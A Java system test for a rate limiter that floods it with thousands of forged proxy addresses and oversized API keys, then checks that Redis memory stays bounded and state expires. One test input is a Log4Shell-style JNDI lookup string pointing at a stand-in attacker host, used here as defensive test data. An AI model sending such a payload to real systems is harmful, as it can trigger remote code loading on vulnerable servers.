package io.ratelimiter.systemtests;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.ratelimiter.realservers.PostgresDatabase;
import io.ratelimiter.realservers.RealRedis;
import io.ratelimiter.realservers.RealServers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.ThreadLocalRandom;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * A client that rotates through thousands of identities (forged addresses behind a trusted proxy, or made-up API
 * keys) to make Redis remember more and more: every window expires, so memory is bounded by the identities active
 * within one window, and each costs a measured, small number of bytes. Made-up API keys buy no quota (nobody vouches
 * for them, so the address counts too), and an API key of any length makes neither a long key nor a long field: keys
 * are kept as fingerprints.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class KeySpaceAbuseTest {

    private static final String SUITE = "key-space";
    private static final int IDENTITIES = 4000;
    private static final Duration WINDOW = Duration.ofSeconds(2);

    private RealRedis redis;
    private PostgresDatabase database;

    @BeforeAll
    void start() {
        // A Redis of its own, so its memory figures are this suite's alone.
        redis = RealServers.newRedis();
        database = RealServers.postgres().createDatabase("key_space");
    }

    @AfterAll
    void stop() {
        redis.close();
    }

    @Test
    void rotatingThroughThousandsOfAddressesLeavesNothingBehindOnceTheirWindowsEnd() {
        String prefix = ShortenerNode.uniquePrefix(SUITE);
        try (ShortenerNode node = ShortenerNode.start(ShortenerNode.with(
                ShortenerNode.properties(redis.uri(), database, prefix),
                "rate-limiter.default-policy.algorithm", "sliding_window",
                "rate-limiter.default-policy.limits", "100/" + WINDOW.toSeconds() + "s"))) {
            List<String> identities = IntStream.range(0, IDENTITIES).mapToObj(i -> longestIpv6(i)).toList();
            long before = RedisKeys.on(redis).usedMemory();
            List<Integer> statuses = rotate(identities, identity -> Http.get(node.uri(), "/", "X-Forwarded-For", identity));
            assertThat(statuses).containsOnly(200);
            measureAndAwaitExpiry(prefix, before, "full-length IPv6 addresses, each in a /64 of its own");
        }
    }

    @Test
    void rotatingThroughThousandsOfLongestApiKeysLeavesNothingBehindOnceTheirWindowsEnd() {
        String prefix = ShortenerNode.uniquePrefix(SUITE);
        try (ShortenerNode node = ShortenerNode.start(ShortenerNode.with(
                ShortenerNode.properties(redis.uri(), database, prefix),
                "rate-limiter.identity.key-by", "api-key",
                "rate-limiter.identity.api-key-secret", "key-space-abuse",
                "rate-limiter.default-policy.algorithm", "sliding_window",
                "rate-limiter.default-policy.limits", "100/" + WINDOW.toSeconds() + "s"))) {
            List<String> keys = IntStream.range(0, IDENTITIES).mapToObj(i -> String.format("%08d", i) + "k".repeat(182)).toList();
            long before = RedisKeys.on(redis).usedMemory();
            long started = System.nanoTime();
            List<Integer> statuses = rotate(keys, key -> Http.get(node.uri(), "/", "X-API-Key", key));
            // The rotation may span a few of the address's windows; each lets its quota through, no more.
            long windows = 1 + Duration.ofNanos(System.nanoTime() - started).toMillis() / WINDOW.toMillis();
            assertThat(statuses.stream().filter(status -> status == 200).count()).isLessThanOrEqualTo(100 * (windows + 1));
            assertThat(statuses).contains(429);
            measureAndAwaitExpiry(prefix, before, "190-character API keys, kept as fingerprints");
        }
    }

    @Test
    void noApiKeyOrHeaderLengthMakesALongRedisKey() {
        String prefix = ShortenerNode.uniquePrefix(SUITE);
        try (ShortenerNode node = ShortenerNode.start(ShortenerNode.with(
                ShortenerNode.properties(redis.uri(), database, prefix),
                "rate-limiter.identity.key-by", "api-key",
                "rate-limiter.identity.api-key-secret", "key-space-abuse"))) {
            for (String key : List.of("k", "k".repeat(190), "k".repeat(191), "k".repeat(5000), "k".repeat(7000),
                    "\ud83d\ude00".repeat(95), "\u00e9".repeat(190), "key with spaces", "${jndi:ldap://evil.example/a}")) {
                Http.Answer answer = RawHttp.exchange(node.uri(), "GET / HTTP/1.1\r\nHost: localhost\r\nX-API-Key: "
                        + new String(key.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1) + "\r\nConnection: close\r\n\r\n");
                assertThat(answer.status()).as("key of %d chars: %s", key.length(), answer).isEqualTo(200);
            }
            Http.Answer huge = RawHttp.exchange(node.uri(), "GET / HTTP/1.1\r\nHost: localhost\r\nX-API-Key: "
                    + "k".repeat(100_000) + "\r\nConnection: close\r\n\r\n");
            Problems.assertProblem(huge, 413);

            RedisKeys keys = RedisKeys.on(redis);
            List<String> stored = keys.keys(prefix);
            int longest = stored.stream().mapToInt(key -> key.getBytes(StandardCharsets.UTF_8).length).max().orElseThrow();
            assertThat(longest).as("longest key, bytes").isLessThan(prefix.length() + 64);
            List<String> windows = keys.windows(prefix);
            assertThat(windows).as("keys too long to be an identity fell back to the address").contains("127.0.0.1 default");
            assertThat(windows).filteredOn(window -> window.startsWith("key:"))
                    .allSatisfy(window -> assertThat(window).matches("key:[0-9a-f]{16} default"));
            Figures.report(SUITE, "longest Redis key after API keys of up to 100 KB", longest + " bytes");
        }
    }

    private List<Integer> rotate(List<String> identities, java.util.function.Function<String, Http.Answer> send) {
        long began = System.nanoTime();
        List<Integer> statuses = identities.parallelStream().map(identity -> send.apply(identity).status()).toList();
        Figures.report(SUITE, identities.size() + " identities, one request each", Figures.millis(System.nanoTime() - began) + " ms");
        return statuses;
    }

    private void measureAndAwaitExpiry(String prefix, long memoryBefore, String what) {
        RedisKeys keys = RedisKeys.on(redis);
        List<String> windows = keys.windows(prefix);
        // The first identities' windows may already have ended while the last were still arriving.
        assertThat(windows).isNotEmpty().hasSizeLessThanOrEqualTo(IDENTITIES + 1);
        assertThat(keys.immortalState(prefix)).isEmpty();
        long perWindow = (keys.usedMemory() - memoryBefore) / windows.size();
        Figures.report(SUITE, what + ": Redis memory per window, all in (used_memory growth over the live windows)",
                perWindow + " bytes (" + windows.size() + " windows live when measured)");

        long began = System.nanoTime();
        // Every node removes expired windows once a second; the hashes and indexes themselves expire an hour later.
        await().atMost(WINDOW.multipliedBy(3).plusSeconds(10)).pollInterval(Duration.ofMillis(200)).until(() ->
                keys.windows(prefix).isEmpty());
        List<String> left = keys.keys(prefix);
        assertThat(left).allSatisfy(key -> assertThat(RedisKeys.isConfiguration(key) || keys.ttl(key) > 0)
                .as("%s is configuration or expires", key).isTrue());
        Figures.report(SUITE, what + ": every window gone from Redis after the last request", "within "
                + Figures.millis(System.nanoTime() - began) + " ms of looking (window " + WINDOW.toSeconds() + " s)");
    }

    private static String longestIpv6(int i) {
        ThreadLocalRandom random = ThreadLocalRandom.current();
        return String.format(Locale.ROOT, "2001:db8:%04x:%04x:%04x:%04x:%04x:%04x", 0x1000 + i % 0xefff,
                0x1000 + random.nextInt(0xefff), 0x1000 + random.nextInt(0xefff), 0x1000 + random.nextInt(0xefff),
                0x1000 + random.nextInt(0xefff), 0x1000 + i / 0xefff);
    }
}
